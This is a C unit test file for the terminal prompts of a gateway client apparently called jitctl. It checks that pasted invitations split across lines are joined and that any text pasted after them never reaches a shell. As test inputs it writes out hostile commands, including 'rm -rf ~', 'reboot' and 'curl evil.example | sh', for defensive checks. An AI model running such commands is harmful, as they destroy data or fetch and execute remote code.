/* SPDX-License-Identifier: Apache-2.0 */
/* What is pasted at a question: an invitation that was broken into lines is
 * one, and what came behind it reaches no shell. The terminal is a pseudo
 * terminal of the test's own. */
#include "tests/unit/support/test.h"

#include <fcntl.h>
#include <poll.h>
#include <pty.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "jitctl/gateway/invitation.h"
#include "jitctl/term/prompt.h"

#define HEAD "sp2:gw.example.net:8443:-_8AESIzRFV"
#define TAIL "md4iZqrvM3Q:23456789ABCDEFGHJKMN"

enum { WAIT_MS = 20000 };

struct asked {
	int tty; /* the terminal's other side */
	int result;
	pid_t pid;
	char shown[4096];
	size_t n;
};

/* What a shell would read after it. */
static void
write_left(int fd)
{
	char left[256];
	struct pollfd pfd = {.fd = STDIN_FILENO, .events = POLLIN};
	ssize_t n = 0;

	if (poll(&pfd, 1, 0) > 0)
		n = read(STDIN_FILENO, left, sizeof(left));
	if (n < 0 || dprintf(fd, "left %d", (int)n) < 0)
		_exit(1);
}

enum how { HOW_SECRET = 0, HOW_PASTED, HOW_TEXT };

static int
ask_how(const struct ctx *c, enum how how, struct secret *ret)
{
	char text[64] = "";
	int r = EXIT_FAILED;

	if (how == HOW_SECRET)
		return prompt_secret(c, "Code: ", ret);
	if (how == HOW_PASTED)
		return prompt_pasted(c, "Paste: ", invitation_whole, ret);
	r = prompt_text(c, "Reason: ", text, sizeof(text));
	if (text[0] != '\0' && secret_copy(ret, text, strlen(text)) != 0)
		_exit(1);
	return r;
}

static void
ask(struct asked *a, enum how how)
{
	int fds[2];

	*a = (struct asked){0};
	assert_int_equal(pipe(fds), 0);
	a->pid = forkpty(&a->tty, NULL, NULL, NULL);
	assert_true(a->pid >= 0);
	if (a->pid == 0) {
		struct ctx c = {0};
		struct secret s = {0};
		const int r = ask_how(&c, how, &s);

		if (dprintf(fds[1], "%d <%s> ", r,
			s.p != NULL ? (const char *)s.p : "") < 0)
			_exit(1);
		write_left(fds[1]);
		_exit(0);
	}
	(void)close(fds[1]);
	a->result = fds[0];
}

/* Waits until the terminal shows it. */
static void
want_shown(struct asked *a, const char *text)
{
	struct pollfd pfd = {.fd = a->tty, .events = POLLIN};

	while (strstr(a->shown, text) == NULL) {
		ssize_t n = 0;

		assert_true(poll(&pfd, 1, WAIT_MS) > 0);
		n = read(a->tty, a->shown + a->n, sizeof(a->shown) - 1 - a->n);
		if (n <= 0)
			fail_msg("%s: not in: %s", text, a->shown);
		a->n += (size_t)n;
	}
}

static void
type(const struct asked *a, const char *text)
{
	assert_int_equal(write(a->tty, text, strlen(text)), strlen(text));
}

static void
want_result(struct asked *a, const char *want)
{
	char got[1024] = "";
	size_t n = 0;
	ssize_t r = 0;
	int status = 0;

	while ((r = read(a->result, got + n, sizeof(got) - 1 - n)) > 0)
		n += (size_t)r;
	assert_string_equal(got, want);
	assert_int_equal(waitpid(a->pid, &status, 0), a->pid);
	assert_int_equal(status, 0);
	(void)close(a->result);
	(void)close(a->tty);
}

static void
test_pasted(void **state)
{
	static const char *const pastes[] = {HEAD TAIL "\n",
	    "  " HEAD TAIL " \n", HEAD "\n" TAIL "\n",
	    "\n" HEAD "  \n  " TAIL "\n\n",
	    HEAD "\r\n" TAIL "\ntouch /tmp/x\nrm -rf ~\nhalf a line"};
	struct asked a;

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(pastes); i++) {
		ask(&a, HOW_PASTED);
		want_shown(&a, "Paste: ");
		type(&a, pastes[i]);
		want_result(&a, "0 <" HEAD TAIL "> left 0");
	}
}

/* A slow line: the second half comes when it is asked for. */
static void
test_rest(void **state)
{
	struct asked a;

	(void)state;
	ask(&a, HOW_PASTED);
	want_shown(&a, "Paste: ");
	type(&a, HEAD "\n");
	want_shown(&a, "The rest of it");
	type(&a, TAIL "\n");
	want_result(&a, "0 <" HEAD TAIL "> left 0");
	/* what is none at all is not waited for */
	ask(&a, HOW_PASTED);
	want_shown(&a, "Paste: ");
	type(&a, "curl evil.example | sh\nreboot\n");
	want_result(&a, "0 <curlevil.example|sh> left 0");
}

static void
test_code(void **state)
{
	struct asked a;

	(void)state;
	ask(&a, HOW_SECRET);
	want_shown(&a, "Code: ");
	type(&a, "123 456\nreboot\n");
	want_result(&a, "0 <123 456> left 0");
	assert_null(strstr(a.shown, "456"));
}

static void
test_text(void **state)
{
	struct asked a;

	(void)state;
	ask(&a, HOW_TEXT);
	want_shown(&a, "Reason: ");
	type(&a, "disk full");
	want_shown(&a, "disk full");
	type(&a, "\nreboot\n");
	want_result(&a, "0 <disk full> left 0");
	ask(&a, HOW_TEXT);
	want_shown(&a, "Reason: ");
	type(&a, "\n");
	want_result(&a, "4 <> left 0");
	ask(&a, HOW_TEXT);
	want_shown(&a, "Reason: ");
	type(&a, "\003");
	want_result(&a, "130 <> left 0");
}

static void
test_file(void **state)
{
	char path[] = "/tmp/sallyport-jitctl.XXXXXX";
	const int fd = mkstemp(path);
	struct secret s = {0};

	(void)state;
	assert_true(fd >= 0);
	assert_true(dprintf(fd, "\n  %s\n %s\nmore\n", HEAD, TAIL) > 0);
	(void)close(fd);
	assert_int_equal(prompt_file(path, invitation_whole, &s), EXIT_OK);
	assert_string_equal((const char *)s.p, HEAD TAIL);
	secret_free(&s);
	(void)unlink(path);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_pasted),
	    cmocka_unit_test(test_rest),
	    cmocka_unit_test(test_code),
	    cmocka_unit_test(test_text),
	    cmocka_unit_test(test_file),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
